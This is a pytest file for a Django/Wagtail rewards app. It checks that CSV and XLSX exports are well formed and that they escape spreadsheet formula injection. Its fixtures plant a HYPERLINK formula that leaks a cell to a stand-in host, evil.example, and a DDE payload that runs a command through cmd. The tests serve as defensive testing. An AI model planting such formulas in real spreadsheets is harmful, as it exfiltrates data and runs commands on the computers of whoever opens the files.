"""Every spreadsheet Kansha hands out is safe to open and ready to use: the report workbooks
and Wagtail's own list exports of mentions, grants and redemptions (CSV and XLSX)."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from advocates.models import Advocate, Mention
from rewards.models import (
    ReconciliationItem,
    ReconciliationRun,
    Redemption,
    RedemptionReversal,
    RewardRule,
)
from rewards.reports import report_build
from tests.roles import FINANCE, user_in_role

from .conftest import at

FILTERS = {"date_range_from": "2026-11-01", "date_range_to": "2026-11-30"}
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your reward")'
DDE = "=cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def naive(moment: datetime) -> datetime:
    """A UTC time as the workbook holds it (Excel has no time zones)."""
    return moment.replace(tzinfo=None)


def _download(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def _xlsx(response):
    return load_workbook(io.BytesIO(_download(response)))


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(_download(response).decode("utf-8"))))


def _text_cells(rows) -> list[str]:
    return [c for row in rows for c in row if isinstance(c, str)]


@pytest.fixture
def finance(client, program):
    client.force_login(user_in_role(FINANCE))
    return client


@pytest.fixture
def planted(program):
    """Somebody else's words in the cells finance will open: a mention text, an advocate's
    display name and a rule name (marketing's, but typed in a form)."""
    Mention.objects.filter(pk=Mention.objects.order_by("pk").first().pk).update(text=HYPERLINK)
    Advocate.objects.filter(display_name="Alice").update(display_name=DDE)
    RewardRule.objects.filter(name="USD five off").update(name=HYPERLINK)
    return program


# --- The report workbooks ---------------------------------------------------------------------


def test_the_redemptions_workbook_has_a_real_name(finance):
    response = finance.get(reverse("kansha_reports:redemptions"), {**FILTERS, "export": "xlsx"})
    assert response["Content-Disposition"] == (
        'attachment; filename="kansha-redemptions-2026-11-01-2026-11-30.xlsx"')
    response = finance.get(reverse("kansha_reports:redemptions"), {**FILTERS, "export": "csv"})
    assert response["Content-Disposition"] == (
        'attachment; filename="kansha-redemptions-2026-11-01-2026-11-30.csv"')


def test_the_redemptions_workbook_reads_back_typed_sized_frozen_and_filtered(finance):
    workbook = _xlsx(finance.get(reverse("kansha_reports:redemptions"),
                                 {**FILTERS, "export": "xlsx"}))
    about = workbook["About"]
    assert about["A2"].value.startswith("Filters:")
    assert about.freeze_panes is None  # a cover sheet, not a table
    sheet = workbook["By month, rule, tier"]  # "By month, rule, tier and currency", by word
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    assert header[:3] == ("month", "rule_id", "rule")
    month = header.index("month")
    # The month is a date shown as a month, the money an integer: both sort and filter.
    assert {r[month] for r in rows[1:]} == {naive(at(1, 0))}
    first = sheet.cell(row=2, column=month + 1)
    assert first.is_date
    assert first.number_format == "yyyy-mm"
    assert isinstance(rows[1][header.index("discount_minor")], int)
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(row=1, column=len(header)).column_letter}" \
                                    f"{len(rows)}"
    assert sheet.column_dimensions["C"].width >= len("Min order 20%")


def test_ledger_times_are_real_datetimes(finance):
    workbook = _xlsx(finance.get(reverse("kansha_reports:ledger"), {**FILTERS, "export": "xlsx"}))
    sheet = workbook["One row per grant"]
    rows = list(sheet.iter_rows(values_only=True))
    created = rows[0].index("created_at")
    assert all(isinstance(r[created], datetime) for r in rows[1:])
    assert naive(at(5)) in {r[created] for r in rows[1:]}


@pytest.mark.parametrize("name", ["ambassador", "redemptions", "ledger", "liability"])
def test_sheet_names_are_whole_words_within_31_characters(finance, params, name):
    workbook = _xlsx(finance.get(reverse(f"kansha_reports:{name}"),
                                 {**FILTERS, "export": "xlsx"}))
    titles = [s.title for s in report_build(name=name, params=params).sections.values()]
    assert workbook.sheetnames[0] == "About"
    for sheet_name, title in zip(workbook.sheetnames[1:], titles, strict=True):
        assert len(sheet_name) <= 31
        words = [w.strip(",;.") for w in title.replace(":", " ").replace("/", " ").split()]
        # The first words of the section's title, whole.
        kept = [w.strip(",;.") for w in sheet_name.split()]
        assert words[:len(kept)] == kept


def test_the_report_workbook_and_csv_neutralise_a_planted_rule_name(finance, planted):
    url = reverse("kansha_reports:redemptions")
    workbook = _xlsx(finance.get(url, {**FILTERS, "export": "xlsx"}))
    cells = _text_cells(row for sheet in workbook for row in sheet.iter_rows(values_only=True))
    assert "'" + HYPERLINK in cells
    assert not any(c.startswith(FORMULA_STARTS) for c in cells)
    rows = _csv(finance.get(url, {**FILTERS, "export": "csv"}))
    assert "'" + HYPERLINK in _text_cells(rows)
    assert not any(c.startswith(FORMULA_STARTS) for c in _text_cells(rows))


# --- Wagtail's list exports of Kansha's rows --------------------------------------------------

LISTS = {  # named after the model's plural
    "mentions": ("wagtailsnippets_advocates_mention:list", HYPERLINK),
    "reward-grants": ("wagtailsnippets_rewards_rewardgrant:list", DDE),  # the advocate's name
    "redemptions": ("wagtailsnippets_rewards_redemption:list", HYPERLINK),  # the rule's name
}


@pytest.mark.parametrize("rows", list(LISTS))
def test_a_list_csv_export_neutralises_formulas(admin_client, planted, rows):
    url, planted_text = LISTS[rows]
    response = admin_client.get(reverse(url), {"export": "csv"})
    today = timezone.localdate()
    assert response["Content-Disposition"] == (
        f'attachment; filename="kansha-{rows}-{today:%Y-%m-%d}.csv"')
    cells = _text_cells(_csv(response))
    assert "'" + planted_text in cells
    assert planted_text not in cells
    assert not any(c.startswith(FORMULA_STARTS) for c in cells)


@pytest.mark.parametrize("rows", list(LISTS))
def test_a_list_xlsx_export_neutralises_formulas_and_is_ready_to_use(admin_client, planted,
                                                                      rows):
    url, planted_text = LISTS[rows]
    response = admin_client.get(reverse(url), {"export": "xlsx"})
    assert response["Content-Disposition"] == (
        f'attachment; filename="kansha-{rows}-{timezone.localdate():%Y-%m-%d}.xlsx"')
    workbook = _xlsx(response)
    sheet = workbook.worksheets[0]
    assert sheet.title.casefold() == rows.replace("-", " ")  # "Mentions", not "Sheet1"
    table = list(sheet.iter_rows(values_only=True))
    cells = _text_cells(table)
    assert "'" + planted_text in cells
    assert not any(c.startswith(FORMULA_STARTS) for c in cells)
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref.startswith("A1:")
    assert all(sheet.column_dimensions[c.column_letter].width for c in sheet[1])


def test_a_mention_list_export_has_real_posting_times(admin_client, program):
    workbook = _xlsx(admin_client.get(reverse(LISTS["mentions"][0]), {"export": "xlsx"}))
    rows = list(workbook.worksheets[0].iter_rows(values_only=True))
    posted = rows[0].index("Posted at")
    assert naive(at(3)) in {r[posted] for r in rows[1:]}


def test_refund_lists_keep_negative_amounts_as_numbers_and_escape_text(admin_client, program):
    """A reversal's amounts are negative numbers: they stay numbers (a number is never run as
    a formula), while text beside them is escaped."""
    redemption = Redemption.objects.get(source_id="cs_jpy:promo_JPYONE")
    RedemptionReversal.objects.create(redemption=redemption, kind="refund", source_id=DDE,
                                      order_amount_minor=-4500, discount_minor=-500,
                                      currency="jpy", reversed_at=at(20))
    url = reverse("wagtailsnippets_rewards_redemptionreversal:list")
    sheet = _xlsx(admin_client.get(url, {"export": "xlsx"})).worksheets[0]
    header, row = list(sheet.iter_rows(values_only=True))
    assert row[header.index("Source id")] == "'" + DDE
    assert row[header.index("Order amount minor")] == -4500
    header, row = _csv(admin_client.get(url, {"export": "csv"}))
    assert row[header.index("Source id")] == "'" + DDE
    assert row[header.index("Order amount minor")] == "-4500"


def test_the_reconciliation_csv_is_neutralised_too(finance):
    run = ReconciliationRun.objects.create(date_from=at(1).date(), date_to=at(30).date(),
                                           trigger="command")
    ReconciliationItem.objects.create(run=run, kind="missing_ours", object_type="checkout_session",
                                      stripe_id="cs_1", detail=HYPERLINK, currency="jpy")
    rows = _csv(finance.get(reverse("kansha_reports:reconciliation"),
                            {"run": run.pk, "export": "csv"}))
    assert "'" + HYPERLINK in _text_cells(rows)
    assert not any(c.startswith(FORMULA_STARTS) for c in _text_cells(rows))
